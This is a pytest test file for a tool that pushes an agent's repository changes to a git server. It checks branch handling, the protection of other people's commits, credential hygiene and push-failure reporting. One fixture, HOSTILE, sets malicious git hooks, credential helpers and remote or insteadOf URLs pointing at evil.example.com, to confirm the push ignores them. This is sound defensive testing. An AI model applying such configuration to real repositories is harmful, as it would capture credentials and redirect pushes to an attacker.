"""Pushes and pull requests: what the server has afterwards, whatever the agent has set up."""

from base64 import b64encode
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from celeriac.agents.command.runner import CommandRunner
from celeriac.agents.repository.change import Collector
from celeriac.domain.errors import PushFailedError, VerifyFailedError
from celeriac.domain.executions.events import EventType
from celeriac.domain.executions.model import Completed
from celeriac.domain.repositories import Repository
from celeriac.services.ports import Job
from tests.support.git_server import (
    ACCESS,
    PASSWORD,
    GitServer,
    may_use,
    private_server,
    served_copy,
)
from tests.support.repositories import Desk, Origin, answer, git
from tests.support.run_context import command_job, events_of

pytestmark = [pytest.mark.anyio, pytest.mark.requirement("F26")]

CHANGE = "echo 2 >lib/value"


@pytest.fixture
def served(tmp_path: Path, origin: Origin) -> Path:
    return served_copy(origin, tmp_path / "served", "shop.git")


@pytest.fixture
def server(served: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[GitServer]:
    with private_server(served.parent, monkeypatch) as running:
        yield running


@pytest.fixture
def desk(desk: Desk, server: GitServer) -> Desk:
    return may_use(desk, server)


def job_of(server: GitServer, script: str, *, push: Any = True, **fields: Any) -> Job:
    repository = {"git": f"{server.url}/shop.git", "secret": "shop", "push": push, **fields}
    return replace(
        command_job("shell", f"read start\n{script}\n{answer('done')}"),
        execution_id=uuid4(),
        repository=Repository.model_validate(repository),
        repository_access=ACCESS,
        variables={"issue": 12},
    )


def heads(served: Path) -> dict[str, str]:
    """Return the branches of the server with their commits."""
    lines = git(served, "for-each-ref", "--format=%(refname:short) %(objectname)", "refs/heads")
    return dict(line.split(" ") for line in lines.splitlines())


async def test_the_branch_of_an_execution_is_pushed_after_a_successful_end(
    desk: Desk, server: GitServer, shell: CommandRunner, served: Path, origin: Origin
) -> None:
    job = job_of(server, CHANGE)
    done, context = await desk.run(shell, job)
    assert isinstance(done, Completed)
    branch = f"celeriac/{job.execution_id}"
    (change,) = events_of(context, EventType.CHANGE)
    assert events_of(context, EventType.PUSHED) == [
        {
            "url": f"{server.url}/shop.git",
            "branch": branch,
            "sha": change["head"],
            "new": True,
            "attempt": 1,
        }
    ]
    assert heads(served) == {"main": origin.first, branch: change["head"]}
    assert git(served, "show", f"{branch}:lib/value") == "2"
    assert set(server.seen) == {("x-access-token", PASSWORD)}
    assert PASSWORD not in repr((context.events, context.logged()))
    assert not list(desk.home.glob("repositories/*/push-*"))
    # an agent that changes nothing pushes nothing, nor does one that fails its checks
    _, context = await desk.run(shell, job_of(server, ":"))
    assert events_of(context, EventType.PUSHED) == []
    failing = job_of(server, CHANGE, verify=["false"], verify_rounds=0)
    with pytest.raises(VerifyFailedError):
        await desk.run(shell, failing)
    assert heads(served).keys() == {"main", branch}


async def test_a_repeated_attempt_replaces_only_what_its_execution_has_pushed(
    desk: Desk,
    server: GitServer,
    shell: CommandRunner,
    served: Path,
    tmp_path: Path,
) -> None:
    first = job_of(server, CHANGE)
    await desk.run(shell, first)
    branch = f"celeriac/{first.execution_id}"
    before = heads(served)[branch]
    # its worker has died before the end was stored; another machine knows nothing of it
    again = replace(job_of(server, "echo 3 >lib/value"), execution_id=first.execution_id, attempt=2)
    other = Desk(tmp_path / "other", desk.origin, shell.confinement)
    mirrors = replace(desk.shared.mirrors, root=tmp_path / "other" / "repositories")
    other.shared = replace(
        other.shared, mirrors=mirrors, rule=desk.shared.rule, places=other.places
    )
    _, context = await other.run(shell, again)
    (pushed,) = events_of(context, EventType.PUSHED)
    assert heads(served)[branch] == pushed["sha"] != before
    assert git(served, "show", f"{branch}:lib/value") == "3"
    # somebody adds a commit to it
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", "--branch", branch, str(served), str(clone))
    (clone / "review").write_text("of a person\n")
    git(clone, "add", "review")
    git(clone, "commit", "--quiet", "-m", "review")
    git(clone, "push", "--quiet", "origin", branch)
    theirs = heads(served)[branch]
    third = replace(again, attempt=3)
    with pytest.raises(PushFailedError, match="has commits of others"):
        await other.run(shell, third, context := other.context(third))
    assert heads(served)[branch] == theirs
    assert events_of(context, EventType.CHANGE)[0]["patch"] == "changes.patch"
    assert (other.base(third) / "changes.patch").exists()


async def test_an_agents_own_commits_are_replaced_if_this_worker_has_pushed_them(
    desk: Desk, server: GitServer, shell: CommandRunner, served: Path
) -> None:
    commit = "git -c user.name=x -c user.email=x@example.com commit --quiet -am mine"
    first = job_of(server, f"{CHANGE}; GIT_COMMITTER_EMAIL=x@example.com {commit}")
    await desk.run(shell, first)
    second = replace(job_of(server, "echo 4 >lib/value"), execution_id=first.execution_id)
    await desk.run(shell, replace(second, attempt=2))
    assert git(served, "show", f"celeriac/{first.execution_id}:lib/value") == "4"


async def test_branches_of_people_stay_unless_the_task_allows_it(
    desk: Desk, server: GitServer, shell: CommandRunner, served: Path, origin: Origin
) -> None:
    git(served, "branch", "release", "main")
    for name, ref in (("main", "main"), ("main", None), ("release", None), ("main", "v1")):
        job = job_of(server, CHANGE, push={"branch": name}, ref=ref)
        with pytest.raises(PushFailedError, match=r"push\.existing"):
            await desk.run(shell, job)
    assert heads(served) == {"main": origin.first, "release": origin.first}
    allowed = job_of(server, CHANGE, push={"branch": "main", "existing": True})
    _, context = await desk.run(shell, allowed)
    assert heads(served)["main"] == events_of(context, EventType.PUSHED)[0]["sha"] != origin.first
    # also then it is only moved forward
    late = job_of(server, CHANGE, push={"branch": "main", "existing": True}, ref="v1")
    with pytest.raises(PushFailedError, match="commits of others"):
        await desk.run(shell, late)
    named = job_of(server, "echo 5 >lib/value", push={"branch": "fix/{{ issue }}-{{ task }}"})
    await desk.run(shell, named)
    assert f"fix/12-{named.task_name}" in heads(served)
    # another execution does not replace it
    assert named.repository is not None
    other = job_of(server, "echo 6 >README", push=named.repository.push)
    with pytest.raises(PushFailedError, match="has commits of others"):
        await desk.run(shell, other)


async def test_a_repeated_attempt_keeps_what_others_had_on_an_existing_branch(
    desk: Desk, server: GitServer, shell: CommandRunner, served: Path, tmp_path: Path
) -> None:
    """The first attempt has merged the branch; the second one has not, or went back behind it."""
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(served), str(clone))
    git(clone, "checkout", "--quiet", "-b", "release")
    (clone / "notes").write_text("of a person\n")
    git(clone, "add", "notes")
    git(clone, "commit", "--quiet", "-m", "notes")
    git(clone, "push", "--quiet", "origin", "release")
    push = {"branch": "release", "existing": True}
    git(clone, "bundle", "create", "--quiet", str(tmp_path / "bundle"), "release")
    bundle = b64encode((tmp_path / "bundle").read_bytes()).decode()
    merge = (
        f"echo {bundle} | base64 -d >b; git fetch --quiet b release || exit 1; rm b; "
        f"git merge --quiet FETCH_HEAD || exit 1; {CHANGE}"
    )
    behind = "git reset --quiet --hard HEAD~1; echo 4 >lib/value"
    for ref, begin, again in (
        ("main", merge, "echo 3 >lib/value"),
        ("release", "echo 9 >lib/value", behind),
    ):
        first = job_of(server, begin, push=push, ref=ref)
        _, context = await desk.run(shell, first)
        (pushed,) = events_of(context, EventType.PUSHED)
        second = replace(job_of(server, again, push=push, ref=ref), attempt=2)
        with pytest.raises(PushFailedError, match="has commits of others"):
            await desk.run(shell, replace(second, execution_id=first.execution_id))
        assert heads(served)["release"] == pushed["sha"]
        assert git(served, "show", "release:notes") == "of a person"


HOSTILE = """
mkdir -p .git/hooks
for hook in pre-push reference-transaction post-commit pre-commit; do
    printf '#!/bin/sh\\ntouch {mark}\\n' >.git/hooks/$hook; chmod +x .git/hooks/$hook
done
git config core.hooksPath "$PWD/.git/hooks"
git config core.sshCommand 'touch {mark}'
git config credential.helper '!touch {mark}; cat >>{mark}'
git config url.https://evil.example.com/.insteadOf https://localhost
git config url.https://evil.example.com/.pushInsteadOf https://localhost
git config http.proxy http://127.0.0.1:9
git config http.sslVerify false
git config push.default mirror
git config remote.origin.url https://evil.example.com/x
git config remote.origin.mirror true
git config --global credential.helper '!touch {mark}' || :
git branch extra; git tag extra-tag
echo 2 >lib/value
"""


async def test_nothing_that_the_agent_has_set_up_has_effect_on_the_push(
    desk: Desk, server: GitServer, shell: CommandRunner, served: Path, tmp_path: Path
) -> None:
    mark = tmp_path / "executed"
    job = job_of(server, f"{HOSTILE.format(mark=mark)}\nrm -f {mark}")
    _, context = await desk.run(shell, job)
    assert events_of(context, EventType.PUSHED)[0]["new"] is True
    assert not mark.exists()
    assert heads(served).keys() == {"main", f"celeriac/{job.execution_id}"}
    assert git(served, "tag") == "v1"


async def test_a_push_that_fails_says_why_and_keeps_the_change(
    desk: Desk, server: GitServer, shell: CommandRunner, served: Path
) -> None:
    hook = served / "hooks/pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\necho 'no pushes with {PASSWORD} on Saturdays'\nexit 1\n")
    hook.chmod(0o755)
    job = job_of(server, CHANGE)
    context = desk.context(job)
    with pytest.raises(
        PushFailedError, match=r"pre-receive hook declined.* on Saturdays"
    ) as caught:
        await desk.run(shell, job, context)
    assert PASSWORD not in repr((caught.value, caught.value.details))
    assert events_of(context, EventType.CHANGE)[0]["patch"] == "changes.patch"
    assert (desk.base(job) / "changes.bundle").exists()
    hook.unlink()
    # a token that may read only
    git(served, "config", "http.receivepack", "false")
    with pytest.raises(PushFailedError, match="403"):
        await desk.run(shell, job_of(server, CHANGE))
    # a change that is too large
    collector = Collector(confinement=shell.confinement, patch_bytes=100)
    job = job_of(server, CHANGE)
    with pytest.raises(PushFailedError, match="CELERIAC_REPOSITORIES_PATCH_MB"):
        await desk.runner(shell, collector=collector).run(job, desk.context(job))
    assert heads(served).keys() == {"main"}
